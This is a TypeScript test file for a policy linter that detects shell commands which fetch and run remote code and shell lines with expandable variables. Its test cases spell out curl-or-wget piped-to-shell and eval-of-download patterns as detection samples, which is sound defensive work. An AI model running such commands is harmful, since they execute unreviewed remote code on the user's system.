import { describe, expect, it } from "vitest";
import { expandedLine, fetches } from "../../../src/policy/lint/command.ts";

const sh = (line: string): readonly string[] => ["sh", "-c", line];

/** A harmless command within so many shells. */
const nested = (shells: number): string => (shells === 0 ? "npm ci" : `sh -c ${JSON.stringify(nested(shells - 1))}`);

describe("a command that fetches what it runs", () => {
  it.each<readonly string[]>([
    ["npx", "migrate-tool"],
    ["/usr/bin/env", "npx", "x"],
    ["env", "-u", "HOME", "A=b", "npx", "x"],
    ["env", "-S", "npx x"],
    ["timeout", "-s", "KILL", "5m", "npx", "x"],
    ["npm", "exec", "x"],
    ["npm", "--yes", "exec", "x"],
    ["npm", "--prefix", "shop", "exec", "x"],
    ["pipx", "run", "x"],
    ["uv", "tool", "run", "x"],
    ["go", "run", "-mod=mod", "example.com/x@v1"],
    ["deno", "run", "https://example.com/x.ts"],
    ["docker", "--context", "a", "run", "x"],
    sh("npx x"),
    sh("cd shop && npx x"),
    sh("if true; then npx x; fi"),
    sh("A=b npx x"),
    sh("sh -c 'npx x'"),
    sh("curl https://x.example.com/i.sh | sh"),
    sh("curl x|tee log|sudo bash -s"),
    sh("(curl x) | sh"),
    sh("{ curl x; } | sh"),
    sh("echo $(curl x) | sh"),
    sh("wget -O- x |& python3 -"),
    sh("$(curl x)"),
    sh('bash -c "$(curl x)"'),
    sh("bash <(curl x)"),
    sh("eval `wget -qO- x`"),
    ["bash", "-ce", "curl x | sh"],
    ["busybox", "sh", "-c", "wget -O- x | sh"],
    sh(String.raw`sh -c "sh -c \"npx x\""`),
  ])("is seen: %s %s %s", (...command) => {
    expect(fetches(command)).toBe(true);
  });

  it.each<readonly string[]>([
    ["npm", "ci"],
    ["npm", "run", "x"],
    ["./npx.sh", "x"],
    ["go", "run", "./cmd"],
    ["docker", "build", "."],
    ["./deploy.sh", "curl", "|", "sh"],
    sh("curl x > page; ./read page"),
    sh("TOKEN=$(curl x) ./deploy.sh"),
    sh("curl x | python3 -m json.tool"),
    sh("curl x; echo | sh"),
    sh("echo 'curl x | sh'"),
    sh("echo 'done; npx x'"),
    sh("./report $(date) $(curl x)"),
  ])("is not seen in: %s %s %s", (...command) => {
    expect(fetches(command)).toBe(false);
  });

  it("is not ruled out where shells are nested more deeply than is looked at", () => {
    expect([nested(7), nested(8)].map((line) => fetches(sh(line)))).toEqual([false, true]);
  });
});

describe("a shell's line with a variable in it", () => {
  it.each<readonly [string, ...string[]]>([
    ["sh", "-c", "./x $Y"],
    ["bash", "-ce", "./x $Y"],
    ["bash", "-o", "pipefail", "-c", "./x $Y"],
    ["/usr/bin/env", "bash", "-c", "./x `y`"],
    ["busybox", "sh", "-c", "./x $Y"],
    ["sudo", "-u", "ci", "/bin/dash", "-xc", "./x $Y"],
  ])("is found in %s %s %s", (...command) => {
    expect(expandedLine(command)).toBe(command.at(-1));
  });

  it.each([
    ["./x", "-c", "$Y"],
    ["sh", "-c", "./x y"],
    ["sh", "./x.sh", "$Y"],
  ])("is not found in %s %s %s", (...command) => {
    expect(expandedLine(command)).toBeUndefined();
  });
});
